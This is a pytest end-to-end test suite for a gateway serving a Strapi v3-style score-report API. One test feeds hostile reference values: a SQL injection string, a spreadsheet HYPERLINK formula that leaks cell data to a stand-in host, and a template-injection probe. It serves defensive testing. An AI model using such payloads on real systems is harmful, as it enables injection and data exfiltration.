"""Door A's whole life through the gateway, as a Strapi v3 client lives it."""

import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote, urlencode

import pytest

from local.first_order import Answer, request
from local.tokens import GENERAL_PERMISSIONS
from tests.builders import CYBERCERT, ROOT, load_event
from tests.service import PATIENCE_S, Service

pytestmark = pytest.mark.e2e
EXAMPLE: dict[str, Any] = json.loads(load_event("create_report/post_reports.json")["body"])
TEXT, FLAG, NUMBER = (str,), (bool,), (int, float)
TYPES: dict[str, tuple[type, ...]] = {
    "id": TEXT,
    "uuid": TEXT,
    "referenceId": TEXT,
    "type": TEXT,
    "processed": FLAG,
    "users_permissions_user": (dict,),
    "score": NUMBER,
    "scoreProbability": NUMBER,
    "scoreConfidence": NUMBER,
    "scoreVersion": TEXT,
    "published_at": TEXT,
}
USER_TYPES: dict[str, tuple[type, ...]] = {
    "id": TEXT,
    "username": TEXT,
    "email": TEXT,
    "provider": TEXT,
    "confirmed": FLAG,
    "blocked": FLAG,
    "role": TEXT,
    "reports": (list,),
    "created_by": TEXT,
    "updated_by": TEXT,
}
KEYS, USER_KEYS = list(TYPES), list(USER_TYPES)
SCORES = ("score", "scoreProbability", "scoreConfidence", "scoreVersion")
SECRETS = {"password", "resetPasswordToken", "confirmationToken"}
OWN = ("reports.generate.own", "reports.view.own")


@dataclass
class Strapi:
    """Sends what the ecosystem's clients send: a bearer token, JSON, and query suffixes; keeps every answer."""

    service: Service
    token: str
    answers: list[Answer]

    def create(self, **data: Any) -> Answer:
        return self.send("POST", "/reports", data)

    def find(self, *pairs: tuple[str, Any], **params: Any) -> Answer:
        return self.send("GET", f"/reports?{urlencode([*pairs, *params.items()])}")

    def find_one(self, name: str) -> Answer:
        return self.send("GET", f"/reports/{quote(name)}")

    def count(self, **params: Any) -> Answer:
        return self.send("GET", f"/reports/count?{urlencode(params)}")

    def send(self, method: str, path: str, body: Any = None, **headers: str) -> Answer:
        answer = request(method, self.service.url + path, token=self.token, body=body, headers=headers)
        self.answers.append(answer)
        return answer

    def finished(self, name: str) -> Any:
        """Poll until there is a score, or a reason why there will be none."""
        deadline = time.monotonic() + PATIENCE_S
        while time.monotonic() < deadline:
            score = self.find_one(name).json()
            if score["processed"] or "error" in score:
                return score
            time.sleep(0.05)
        raise AssertionError(f"{name} is not processed: {score}")


ANSWERS: list[Answer] = []


def a_client(service: Service, sub: str, *permissions: str) -> Strapi:
    token = service.token(sub=sub, permissions=permissions or OWN, email="ayse@example.com")
    return Strapi(service, token, ANSWERS)


def refusal(status: int, reason: str, message: str, answer: Answer) -> dict[str, Any]:
    request_id = answer.headers["X-Request-Id"]
    return {"code": status, "message": message, "reason": reason, "request_id": request_id}


def keys_in(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        yield from value
    for inner in value.values() if isinstance(value, dict) else value if isinstance(value, list) else ():
        yield from keys_in(inner)


def test_a_score_from_its_order_to_its_figures(service: Service) -> None:
    client = a_client(service, "strapi-1")

    ordered = client.create(uuid="maia-c6cbaa76ba8f", referenceId="92442", type="reference")
    score = client.finished(ordered.json()["id"])

    assert ordered.status == 200
    assert list(ordered.json()) == KEYS
    assert list(ordered.json()["users_permissions_user"]) == USER_KEYS
    assert (ordered.json()["processed"], [ordered.json()[name] for name in SCORES]) == (False, [None] * 4)
    [told] = re.findall(r"```json\n(.*?)\n```", (ROOT / "docs/scores.md").read_text())
    assert score == {**ordered.json(), **json.loads(told), "processed": True}
    assert client.find_one("maia-c6cbaa76ba8f").json() == score
    assert client.find().json() == [score]
    assert client.count().json() == {"count": 1}


def test_the_same_uuid_is_the_same_score(service: Service) -> None:
    client, other = a_client(service, "strapi-2"), a_client(service, "strapi-3")
    first = client.create(uuid="order-1", referenceId="90001").json()
    score = client.finished("order-1")

    again = client.create(uuid="order-1", referenceId="90001")
    changed = client.create(uuid="order-1", referenceId="90002")
    elsewhere = other.create(uuid="order-1", referenceId="90002")

    assert (again.status, again.json()) == (200, score)
    assert score["id"] == first["id"]
    assert changed.status == 409
    assert changed.json() == refusal(409, "uuid_taken", "The uuid was used before with another body.", changed)
    assert (elsewhere.status, elsewhere.json()["id"] == first["id"]) == (200, False)
    assert client.count().json() == {"count": 1}


@pytest.mark.parametrize("permissions", [OWN, ("reports.generate", "reports.view")], ids=["own", "general"])
def test_a_score_can_be_sent_back_as_it_was_shown(service: Service, permissions: tuple[str, ...]) -> None:
    client = a_client(service, f"strapi-echo-{len(permissions[0])}", *permissions)
    waiting = client.create(referenceId="92442").json()
    shown = client.finished(waiting["id"])

    for echo in (waiting, shown, {"uuid": shown["id"].upper(), "referenceId": "92442"}):
        again = client.create(**echo)
        assert (again.status, again.json()) == (200, shown)
    for change in ({"referenceId": "90001"}, {"referenceId": None, "processed": True, "score": 1}):
        other = client.create(**{**shown, **change})
        assert other.status == (422 if permissions == OWN and change["referenceId"] is None else 409)

    assert client.find_one(shown["uuid"]).json() == shown
    assert client.find(uuid=shown["uuid"]).json() == [shown]


def test_a_score_made_elsewhere_can_be_sent_back_as_it_was_shown(service: Service) -> None:
    client = a_client(service, "strapi-18", "reports.generate", "reports.view")
    history = {"referenceId": "x", "processed": True, "score": 612.5, "published_at": "2019-08-24T14:15:22Z"}
    shown = client.create(**history).json()

    assert client.create(**shown).json() == shown
    for change in ({"score": 612}, {"scoreVersion": "2"}, {"published_at": "2020-08-24T14:15:22Z"}):
        assert client.create(**{**shown, **change}).json()["reason"] == "uuid_taken"
    assert client.count(uuid=shown["uuid"]).json() == {"count": 1}


def test_the_id_of_a_report_that_is_no_score_names_none(service: Service) -> None:
    client = a_client(service, "1", "reports.generate", "reports.view")
    users = service.call("POST", "/api/v1/reports", CYBERCERT).json()["uuid"]

    answer = client.create(uuid=users, referenceId="92442")

    assert (answer.status, answer.json()["reason"]) == (409, "uuid_taken")


def test_somebody_elses_id_is_a_name_like_any(service: Service) -> None:
    theirs = a_client(service, "strapi-19").create(referenceId="92442").json()
    client = a_client(service, "strapi-20", "reports.generate", "reports.view")

    mine = client.create(uuid=theirs["id"], referenceId="90001").json()

    assert (mine["uuid"], mine["id"] == theirs["id"]) == (theirs["id"], False)
    assert client.find_one(theirs["id"]).json()["referenceId"] == "90001"


def test_a_uuid_whose_score_was_deleted_says_so(service: Service) -> None:
    client = a_client(service, "strapi-21", *GENERAL_PERMISSIONS)
    named, unnamed = client.create(uuid="gone", referenceId="92442").json(), client.create(referenceId="92442").json()

    for score in (named, unnamed):
        at = f"/api/v1/reports/{score['id']}"
        body = {"uuid": score["uuid"], "referenceId": "92442"}
        assert client.send("DELETE", at).status == 200
        refused, other = client.create(**body), client.create(**{**body, "referenceId": "90001"})
        assert client.send("POST", f"{at}/restore").status == 200

        told = "The report of this uuid was deleted. Restore it, or use another uuid."
        assert (refused.status, refused.json()) == (409, refusal(409, "uuid_deleted", told, refused))
        assert other.json()["reason"] == "uuid_taken"
        assert client.create(**body).json()["id"] == score["id"]


def test_the_originals_example_is_scored_for_who_may_record_none(service: Service) -> None:
    client = a_client(service, "strapi-4")

    ordered = client.create(**EXAMPLE)
    score = client.finished("string")

    assert ordered.status == 200
    assert list(ordered.json()) == KEYS
    assert (ordered.json()["processed"], ordered.json()["score"]) == (False, None)
    assert score["score"] == 595
    assert score["published_at"] != EXAMPLE["published_at"]


def test_results_of_who_may_record_none_are_not_even_looked_at(service: Service) -> None:
    client, recorder = (
        a_client(service, "strapi-22"),
        a_client(service, "strapi-23", "reports.generate", "reports.view"),
    )
    ignored: list[dict[str, Any]] = [
        {"score": "abc"},
        {"score": 1e20},
        {"scoreVersion": 5},
        {"processed": "x"},
        {"published_at": "2019-08-24"},
    ]

    answers = [client.create(referenceId="92442", **it) for it in ignored]
    refused = [recorder.create(referenceId="92442", **it) for it in ignored]

    assert [it.status for it in answers] == [200] * 5
    assert [client.finished(it.json()["id"])["score"] for it in answers] == [595] * 5
    assert [it.status for it in refused] == [422] * 5


def test_the_originals_example_is_recorded_for_who_may(service: Service) -> None:
    client = a_client(service, "strapi-5", "reports.generate", "reports.view.own")

    recorded = client.create(**EXAMPLE)

    counted = {name: recorded.json()[name] for name in EXAMPLE if name in KEYS and name != "users_permissions_user"}
    assert recorded.status == 200
    assert list(recorded.json()) == KEYS
    assert counted == {name: EXAMPLE[name] for name in counted}
    assert recorded.json()["users_permissions_user"]["id"] == "strapi-5"
    assert client.find_one("string").json() == recorded.json()


def test_the_originals_example_is_answered_in_the_originals_types(service: Service) -> None:
    scored, recorded = (
        a_client(service, "strapi-16"),
        a_client(service, "strapi-17", "reports.generate", "reports.view"),
    )

    waiting = scored.create(**EXAMPLE).json()
    finished, imported = scored.finished("string"), recorded.create(**EXAMPLE).json()

    not_yet = dict.fromkeys(SCORES, (type(None),))
    for score, types in ((waiting, TYPES | not_yet), (finished, TYPES), (imported, TYPES)):
        assert of_other_types(score, types) == []
        assert of_other_types(score["users_permissions_user"], USER_TYPES) == []
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d{1,6})?Z", score["published_at"])


def of_other_types(found: dict[str, Any], types: dict[str, tuple[type, ...]]) -> list[str]:
    """Names whose values are not of the types, or that are there or missing against them."""
    differing = {name for name, value in found.items() if type(value) not in types.get(name, ())}
    return sorted(differing | (types.keys() - found.keys()))


def test_an_unknown_reference_is_told_apart_from_one_that_waits(service: Service) -> None:
    client = a_client(service, "strapi-6")

    score = client.finished(client.create(referenceId="no such customer").json()["id"])

    assert (score["processed"], [score[name] for name in SCORES]) == (False, [None] * 4)
    assert score["error"] == {"code": "reference_not_found", "message": "There is nothing under this reference."}


@pytest.mark.parametrize("status", ["completed", "failed", "processing"])
def test_history_without_a_score_is_told_apart_from_a_score_that_waits(service: Service, status: str) -> None:
    client = a_client(service, "1", "reports.view")
    body = {"title": "Skor", "report_type": "reference", "parameters": {"referenceId": "92442"}, "status": status}
    uuid = service.call("POST", "/api/v1/reports", body).json()["uuid"]

    answer = client.find_one(uuid)

    assert (answer.json()["processed"], answer.headers["Retry-After"]) == (False, None)
    assert answer.json()["error"] == {
        "code": "not_scored",
        "message": "It was recorded as made elsewhere, without a score.",
    }


def test_hostile_references_are_scored_like_any(service: Service) -> None:
    client = a_client(service, "strapi-7")
    names = [
        "山田太郎",
        "محمد عبد الله",
        "' OR 1=1 --",
        '=HYPERLINK("http://example.invalid/?leak="&A1,"Tıkla")',
        "%s {{7*7}}",
    ]

    scores = {name: client.finished(client.create(referenceId=name).json()["id"]) for name in names}

    assert {name: score["referenceId"] for name, score in scores.items()} == {name: name for name in names}
    assert [name for name, score in scores.items() if not score["processed"]] == ["%s {{7*7}}"]


def test_a_score_is_a_report_at_the_other_door(service: Service) -> None:
    client = a_client(service, "strapi-8")
    score = client.create(referenceId="92442").json()

    report = service.finished(score["id"])
    document = json.loads(service.document(score["id"]))

    assert (report["title"], report["report_type"], report["format"]) == ("Score 92442", "reference", "json")
    assert report["parameters"] == {"referenceId": "92442"}
    assert document["rows"] == [
        {"referenceId": "92442"} | {name: client.find_one(score["id"]).json()[name] for name in SCORES}
    ]


def test_a_score_ordered_at_the_other_door_is_here_too(service: Service) -> None:
    body = {"title": "Skor", "report_type": "reference", "parameters": {"referenceId": "92442"}, "format": "pdf"}
    client = a_client(service, "1")

    report = service.call("POST", "/api/v1/reports", body).json()
    score = client.finished(report["uuid"])

    assert (score["uuid"], score["referenceId"], score["score"]) == (report["uuid"], "92442", 595)
    assert service.document(report["uuid"]).startswith(b"%PDF-")


def test_only_scores_are_at_this_door(service: Service) -> None:
    client = a_client(service, "1", "reports.view")
    users = service.call("POST", "/api/v1/reports", CYBERCERT).json()

    answer = client.find_one(users["uuid"])

    assert (answer.status, answer.json()["reason"]) == (404, "not_found")
    assert users["uuid"] not in {score["id"] for score in client.find().json()}


def test_others_scores_are_not_there(service: Service) -> None:
    mine, theirs = a_client(service, "strapi-9"), a_client(service, "strapi-10")
    general = a_client(service, "strapi-11", "reports.view")
    score = mine.create(uuid="hers", referenceId="92442").json()

    absent = theirs.find_one("1d3a3b1e-0000-4000-8000-000000000000")
    for name in (score["id"], "hers"):
        answer = theirs.find_one(name)
        assert answer.status == 404
        assert {**answer.json(), "request_id": ""} == {**absent.json(), "request_id": ""}
    assert theirs.find().json() == []
    assert theirs.count(uuid="hers").json() == {"count": 0}
    assert general.find_one(score["id"]).json()["users_permissions_user"]["email"] is None
    assert general.count(uuid="hers").json() == {"count": 1}
    assert general.create(referenceId="92442").status == 403


@pytest.fixture(scope="module")
def history(service: Service) -> tuple[Strapi, list[dict[str, Any]]]:
    """Scores made elsewhere, oldest first."""
    client = a_client(service, "strapi-history", "reports.generate", "reports.view.own")
    made = []
    for number in range(12):
        data = {
            "uuid": f"old-{number:02}",
            "referenceId": f"Müşteri, {number % 3}",
            "processed": True,
            "score": 400 + 20 * number + 0.5,
            "scoreProbability": round(1 / (number + 2), 4),
            "scoreVersion": "v1" if number % 2 else None,
            "published_at": f"2019-{number + 1:02}-01T00:00:00Z",
        }
        made.append(client.create(**data).json())
    return client, made


def test_a_list_is_newest_first_and_paged(history: tuple[Strapi, list[dict[str, Any]]]) -> None:
    client, made = history

    assert client.find().json() == made[::-1]
    assert client.find(_sort="created_at:desc").json() == made[::-1]
    assert client.find(_sort="createdAt:ASC").json() == made
    assert client.find(_sort="created_at").json() == made
    assert client.find(_sort="created_at:asc", _start=5, _limit=3).json() == made[5:8]
    assert client.find(_start=10_000).json() == []


FILTERS: list[tuple[list[tuple[str, str]], set[int]]] = [
    ([("score", "400.5")], {0}),
    ([("score_ne", "400.5")], set(range(1, 12))),
    ([("score_gte", "440.5"), ("score_lt", "500.5")], {2, 3, 4}),
    ([("score_gt", "600.5")], {11}),
    ([("scoreProbability_lte", "0.0769")], {11}),
    ([("scoreVersion", "v1")], {1, 3, 5, 7, 9, 11}),
    ([("scoreVersion_ne", "v1")], set()),  # as in SQL, nothing can be said of what is empty
    ([("processed", "true")], set(range(12))),
    ([("processed", "0")], set()),
    ([("type", "reference"), ("uuid_in", "old-01"), ("uuid_in", "old-07")], {1, 7}),
    ([("uuid_in[]", "old-01"), ("uuid_in[]", "old-07")], {1, 7}),
    ([("uuid_nin", "old-01"), ("uuid_nin", "old-07"), ("score_lt", "450")], {0, 2}),
    ([("uuid", "old-03"), ("uuid", "old-04")], {3, 4}),
    ([("referenceId", "Müşteri, 2")], {2, 5, 8, 11}),
    ([("referenceId_contains", "MÜŞTERI, 1")], {1, 4, 7, 10}),
    ([("referenceId_containss", "MÜŞTERI, 1")], set()),
    ([("referenceId_ncontains", "1"), ("referenceId_ncontainss", "2")], {0, 3, 6, 9}),
    ([("published_at_gte", "2019-11-01")], {10, 11}),
    ([("published_at_lt", "2019-02-01T03:00:00+03:00")], {0}),
    ([("users_permissions_user", "strapi-history"), ("score_lt", "410")], {0}),
    ([("users_permissions_user", "strapi-1")], set()),
    ([("created_at_gte", "2020-01-01"), ("score_lt", "410")], {0}),
    ([("created_at_lt", "2020-01-01")], set()),
]


@pytest.mark.parametrize(("filters", "expected"), FILTERS)
def test_a_list_is_filtered_and_counted(
    history: tuple[Strapi, list[dict[str, Any]]], filters: list[tuple[str, str]], expected: set[int]
) -> None:
    client, made = history

    found = client.find(*filters)
    counted = client.send("GET", f"/reports/count?{urlencode(filters)}")

    assert {score["uuid"] for score in found.json()} == {made[number]["uuid"] for number in expected}
    assert counted.json() == {"count": len(expected)}


@pytest.mark.parametrize(
    "query",
    [
        "_limit=-1",
        "_limit=0",
        "_limit=101",
        "_limit=1&_limit=2",
        "_start=-1",
        "_start=10001",
        "_start=00000000010001",
        "_sort=score:asc",
        "_sort=created_at:up",
        "_sort=created_at:asc,score:desc",
        "_where[0][score]=1",
        "_q=a",
        "title=a",
        "users_permissions_user.email_contains=a",
        "users_permissions_user.resetPasswordToken_contains=a",
        "password_contains=a",
        "score_null=true",
        "score_between=1",
        "score=high",
        "score=NaN",
        "score_contains=1",
        "processed=maybe",
        "published_at_gt=yesterday",
        "created_at_gt=0001-01-01",
        "referenceId=%FF",
        "&".join(f"uuid_in={number}" for number in range(201)),
    ],
)
def test_what_cannot_be_asked_is_refused(service: Service, query: str) -> None:
    client = a_client(service, "strapi-12")

    for path in ("/reports", "/reports/count"):
        answer = client.send("GET", f"{path}?{query}")

        assert answer.status == 400
        assert list(answer.json()) == ["code", "message", "reason", "request_id"]
        assert (answer.json()["code"], answer.json()["reason"]) == (400, "invalid_query")
        assert not SECRETS & set(re.findall(r"\w+", answer.json()["message"]))


def test_errors_have_the_originals_shape(service: Service) -> None:
    client, nobody = a_client(service, "strapi-13"), a_client(service, "strapi-14", "reports")

    malformed = request("POST", f"{service.url}/reports", token=client.token, body=None)
    form = client.send("POST", "/reports", {}, **{"Content-Type": "application/x-www-form-urlencoded"})
    wrong = client.create(referenceId="1", type="vector")

    assert malformed.json() == refusal(400, "malformed_body", "The body must be one JSON object in UTF-8.", malformed)
    assert form.json() == refusal(415, "unsupported_media_type", "The body must be application/json in UTF-8.", form)
    assert (wrong.status, wrong.json()) == (
        422,
        {
            **refusal(422, "validation_failed", "Validation failed", wrong),
            "errors": {"type": ['The type field must be "reference".']},
        },
    )
    for answer in (nobody.create(), nobody.find(_limit="x"), nobody.count(), nobody.find_one("x")):
        assert (answer.status, answer.json()) == (403, refusal(403, "forbidden", "Forbidden", answer))
    for path in ("/reports", "/reports/count", "/reports/x"):
        assert request("GET", service.url + path).json() == {"message": "Unauthorized"}
    for method in ("PUT", "DELETE"):
        assert client.send(method, "/reports/x", {}).status == 404  # append-only


def test_no_secret_is_shown_at_any_depth_ever(service: Service) -> None:
    client = a_client(service, "strapi-15", "reports.generate", "reports.view")
    secrets = dict.fromkeys(SECRETS, "hunter2")

    for body in (
        {"referenceId": "92442", **secrets},
        {**EXAMPLE, **secrets, "users_permissions_user": secrets, "created_by": secrets},
        {"type": "vector", **secrets},
        {"type": secrets, "scoreVersion": secrets},
    ):
        client.create(**body)
    client.find()
    client.find(("password", "hunter2"))

    assert len(ANSWERS) > 6
    for answer in ANSWERS:
        assert not SECRETS & set(keys_in(answer.json()))
        assert b"hunter2" not in answer.body
